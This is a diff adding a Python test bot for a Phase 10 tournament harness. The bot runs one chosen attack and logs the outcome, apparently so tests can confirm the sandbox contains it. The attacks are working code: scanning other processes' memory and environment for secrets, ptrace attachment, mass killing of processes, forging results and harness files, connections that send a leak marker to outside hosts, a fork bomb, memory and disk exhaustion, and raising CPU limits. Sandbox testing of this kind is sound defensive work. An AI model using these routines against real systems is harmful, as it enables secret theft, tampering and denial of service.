@@ -1,0 +1,346 @@
+#!/usr/bin/env python3
+"""A hostile entrant: runs one attack (argv[1]) in a thread while it plays greedy Phase 10.
+
+Everything it manages (or fails) to do is written to stderr as lines
+`HOSTILE <attack> <what> <detail>`, so a test can read the bot's log and check that
+nothing leaked. Targets come from the environment the tournament gives it (an attacker
+is assumed to know the host's layout): HOSTILE_RESULTS, HOSTILE_TOURNAMENT,
+HOSTILE_OTHER_BOT, HOSTILE_HARNESS, HOSTILE_SITE, HOSTILE_PORT, HOSTILE_MARK.
+Every attack is bounded in time and size.
+"""
+
+from __future__ import annotations
+
+import ctypes
+import mmap
+import os
+import resource
+import signal
+import socket
+import sys
+import threading
+import time
+
+ATTACK = sys.argv[1] if len(sys.argv) > 1 else "none"
+MARK = os.environ.get("HOSTILE_MARK", "nomark")
+_lock = threading.Lock()
+
+
+def report(what: str, detail: object = "") -> None:
+    with _lock:
+        sys.stderr.write(f"HOSTILE {ATTACK} {what} {detail}\n")
+        sys.stderr.flush()
+
+
+def visible_pids() -> list[int]:
+    """Every process this one can find: /proc, and signal 0 to each pid up to 2^17."""
+    found = {int(p) for p in os.listdir("/proc") if p.isdigit()}
+    try:
+        pid_max = int(open("/proc/sys/kernel/pid_max").read())
+    except OSError:
+        pid_max = 1 << 17
+    for pid in range(1, min(pid_max, 1 << 17)):
+        try:
+            os.kill(pid, 0)
+            found.add(pid)
+        except ProcessLookupError:
+            pass
+        except PermissionError:
+            found.add(pid)
+    found -= {int(t) for t in os.listdir("/proc/self/task")}  # this process and its threads
+    found.discard(os.getpid())
+    return sorted(found)
+
+
+def cmdline(pid: int) -> str:
+    try:
+        return open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace").strip()
+    except OSError as e:
+        return f"<unreadable: {e.strerror}>"
+
+
+# ----- the attacks ------------------------------------------------------------------------------
+
+
+def proc_snoop() -> None:
+    """Read every other process's environ, cmdline and memory."""
+    for pid in visible_pids():
+        report("see", f"{pid} {cmdline(pid)!r}")
+        try:
+            env = open(f"/proc/{pid}/environ", "rb").read().replace(b"\0", b" ").decode(errors="replace")
+            report("environ", f"{pid} {env!r}")
+        except OSError as e:
+            report("environ-refused", f"{pid} {e.strerror}")
+        try:
+            with open(f"/proc/{pid}/maps") as f:
+                regions = [line.split()[0] for line in f if " rw" in line][:50]
+            got = 0
+            with open(f"/proc/{pid}/mem", "rb") as mem:
+                for r in regions:
+                    lo, hi = (int(x, 16) for x in r.split("-"))
+                    try:
+                        mem.seek(lo)
+                        data = mem.read(min(hi - lo, 1 << 20))
+                        got += len(data)
+                        if b"hand" in data or b"HONEST_SECRET" in data:
+                            hit = data[data.find(b"HONEST"):][:80]
+                            report("mem-hit", f"{pid} {hit!r}")
+                    except OSError:
+                        pass
+            report("mem-read", f"{pid} {got} bytes")
+        except OSError as e:
+            report("mem-refused", f"{pid} {e.strerror}")
+
+
+def ptrace_attach() -> None:
+    libc = ctypes.CDLL(None, use_errno=True)
+    for pid in visible_pids():
+        if pid == os.getppid():
+            continue  # our own sandbox's init
+        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
+            report("attached", f"{pid} {cmdline(pid)!r}")
+            os.waitpid(pid, 0)
+            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
+        else:
+            report("attach-refused", f"{pid} errno {ctypes.get_errno()}")
+
+
+def killer() -> None:
+    """SIGSTOP and SIGKILL every process in sight, the parent included, for 4 seconds."""
+    end = time.monotonic() + 3
+    first = True
+    while time.monotonic() < end:
+        for sig in (signal.SIGSTOP, signal.SIGKILL):
+            for pid in visible_pids():
+                try:
+                    os.kill(pid, sig)
+                    if first:
+                        report("signalled", f"{sig.name} {pid} {cmdline(pid)!r}")
+                except OSError as e:
+                    if first:
+                        report("signal-refused", f"{sig.name} {pid} {e.strerror}")
+            try:
+                os.kill(os.getppid(), sig)
+                if first:
+                    report("signalled-parent", f"{sig.name} {os.getppid()}")
+            except OSError as e:
+                report("signal-parent-refused", f"{sig.name} {e.strerror}")
+            try:
+                os.kill(-1, signal.SIGCONT if sig == signal.SIGSTOP else signal.SIGCONT)
+            except OSError:
+                pass
+        first = False
+        time.sleep(0.3)
+
+
+def _try_write(path: str, data: str, append: bool) -> None:
+    try:
+        with open(path, "a" if append else "w") as f:
+            f.write(data)
+        report("wrote", path)
+    except OSError as e:
+        report("write-refused", f"{path} {e.strerror}")
+
+
+def writer() -> None:
+    """Plant files and append forged lines everywhere that matters."""
+    forged = f"FORGED-{MARK}\n"
+    results = os.environ.get("HOSTILE_RESULTS", "")
+    tournament = os.environ.get("HOSTILE_TOURNAMENT", "")
+    targets = {
+        "results": results,
+        "tournament-folder": os.path.dirname(tournament),
+        "other-bot": os.environ.get("HOSTILE_OTHER_BOT", ""),
+        "harness": os.environ.get("HOSTILE_HARNESS", ""),
+        "site-packages": os.environ.get("HOSTILE_SITE", ""),
+    }
+    for what, folder in targets.items():
+        if folder:
+            _try_write(os.path.join(folder, f"planted-{MARK}.py"), forged, append=False)
+    for path in (os.path.join(results, "games.jsonl"), os.path.join(results, "leaderboard.json"), tournament,
+                 os.path.join(targets["other-bot"], "greedy.py"),
+                 os.path.join(targets["harness"], "__init__.py")):
+        _try_write(path, forged, append=True)
+
+
+def reader() -> None:
+    """Read the tournament file (its seed decides every deal) and the other bot's source."""
+    for path in (os.environ.get("HOSTILE_TOURNAMENT", ""), os.path.join(os.environ.get("HOSTILE_OTHER_BOT", ""), "greedy.py")):
+        try:
+            data = open(path).read()
+            report("read", f"{path} {len(data)} bytes: {data[:2000]!r}")
+        except OSError as e:
+            report("read-refused", f"{path} {e.strerror}")
+    try:
+        report("listdir", f"{os.environ.get('HOSTILE_RESULTS')} {os.listdir(os.environ.get('HOSTILE_RESULTS', '/'))}")
+    except OSError as e:
+        report("listdir-refused", e.strerror)
+
+
+def network() -> None:
+    port = int(os.environ.get("HOSTILE_PORT", "9"))
+    for host, p in (("127.0.0.1", port), ("1.1.1.1", 53), ("10.0.2.2", 80)):
+        try:
+            s = socket.create_connection((host, p), timeout=2)
+            s.sendall(f"LEAK-{MARK}".encode())
+            report("connected", f"{host}:{p}")
+            s.close()
+        except OSError as e:
+            report("connect-refused", f"{host}:{p} {e}")
+    try:
+        report("resolved", socket.gethostbyname("example.com"))
+    except OSError as e:
+        report("resolve-refused", e)
+
+
+def daemon() -> None:
+    """A setsid double-fork daemon that tries to edit the results for two minutes."""
+    pid = os.fork()
+    if pid == 0:
+        os.setsid()
+        if os.fork():
+            os._exit(0)
+        results = os.environ.get("HOSTILE_RESULTS", "")
+        end = time.monotonic() + 120
+        while time.monotonic() < end:
+            try:
+                with open(os.path.join(results, "games.jsonl"), "a") as f:
+                    f.write(f"FORGED-{MARK}\n")
+            except OSError:
+                pass
+            time.sleep(0.5)
+        os._exit(0)
+    os.waitpid(pid, 0)
+    report("daemon-started", "")
+
+
+def forker() -> None:
+    """Try to hold 500 processes."""
+    kids = []
+    err = ""
+    for _ in range(500):
+        try:
+            pid = os.fork()
+        except OSError as e:
+            err = str(e)
+            break
+        if pid == 0:
+            time.sleep(20)
+            os._exit(0)
+        kids.append(pid)
+    report("forked", f"{len(kids)} {err}")
+    for pid in kids:
+        try:
+            os.kill(pid, signal.SIGKILL)
+            os.waitpid(pid, 0)
+        except OSError:
+            pass
+
+
+def memhog() -> None:
+    """Allocate 8 GiB, 1 GiB in each of 8 setsid children, 64 MiB at a time (touched)."""
+    r, w = os.pipe()
+    kids = []
+    for _ in range(8):
+        pid = os.fork()
+        if pid == 0:
+            os.close(r)
+            os.setsid()
+            held = []
+            for _ in range(16):
+                try:
+                    m = mmap.mmap(-1, 64 << 20)
+                    m.write(b"\1" * (64 << 20))
+                    held.append(m)
+                except (OSError, MemoryError, ValueError):
+                    break
+                os.write(w, b"x")
+            time.sleep(3)
+            os._exit(0)
+        kids.append(pid)
+    os.close(w)
+    chunks = 0
+    while True:
+        b = os.read(r, 4096)
+        if not b:
+            break
+        chunks += len(b)
+    for pid in kids:
+        try:
+            _, status = os.waitpid(pid, 0)
+            report("child-ended", f"{pid} status {status}")
+        except OSError:
+            pass
+    report("allocated", f"{chunks * 64} MiB")
+
+
+def cpu_raise() -> None:
+    soft, hard = resource.getrlimit(resource.RLIMIT_CPU)
+    report("limits", f"soft {soft} hard {hard}")
+    for want in ((resource.RLIM_INFINITY, resource.RLIM_INFINITY), (hard, hard) if hard != resource.RLIM_INFINITY else (soft, soft),
+                 ((hard + 1000 if hard != resource.RLIM_INFINITY else resource.RLIM_INFINITY), resource.RLIM_INFINITY)):
+        try:
+            resource.setrlimit(resource.RLIMIT_CPU, want)
+            now = resource.getrlimit(resource.RLIMIT_CPU)
+            report("raised" if now[0] > soft or now[1] > hard else "unchanged", f"{want} -> {now}")
+        except (ValueError, OSError) as e:
+            report("raise-refused", f"{want} {e}")
+
+
+def scratch_fill() -> None:
+    """Write 2 GiB into /tmp (and HOME), in files of 48 MiB (under the file size limit)."""
+    chunk = b"\0" * (16 << 20)
+    for folder in ("/tmp", os.environ.get("HOME", "/tmp")):
+        written = 0
+        made = []
+        try:
+            while written < (2 << 30):
+                path = os.path.join(folder, f"fill-{os.getpid()}-{len(made)}")
+                made.append(path)
+                with open(path, "wb") as f:
+                    for _ in range(3):
+                        f.write(chunk)
+                        f.flush()
+                        written += len(chunk)
+        except OSError as e:
+            report("fill-stopped", f"{folder} {e.strerror}")
+        report("filled", f"{folder} {written >> 20} MiB")
+        for path in made:
+            try:
+                os.unlink(path)
+            except OSError:
+                pass
+
+
+ATTACKS = {f.__name__: f for f in (proc_snoop, ptrace_attach, killer, writer, reader, network, daemon, forker,
+                                   memhog, cpu_raise, scratch_fill)}
+
+
+def main() -> None:
+    """Run the attack before answering hello (the killer: in a thread while it plays,
+    waited for at the end), then play."""
+    attack = ATTACKS.get(ATTACK)
+
+    def go() -> None:
+        try:
+            attack()
+        except Exception as e:  # noqa: BLE001 - reported for the test to read
+            report("error", repr(e))
+        report("done", "")
+
+    thread = None
+    if attack is not None and ATTACK == "killer":
+        thread = threading.Thread(target=go, daemon=True)
+        thread.start()
+    elif attack is not None:
+        go()
+    from harness.players import GreedyStrategy
+    from harness.sdk import StrategyBot, run
+
+    run(StrategyBot(GreedyStrategy(), name=f"hostile-{ATTACK}"))
+    if thread is not None:
+        thread.join()
+
+
+if __name__ == "__main__":
+    main()
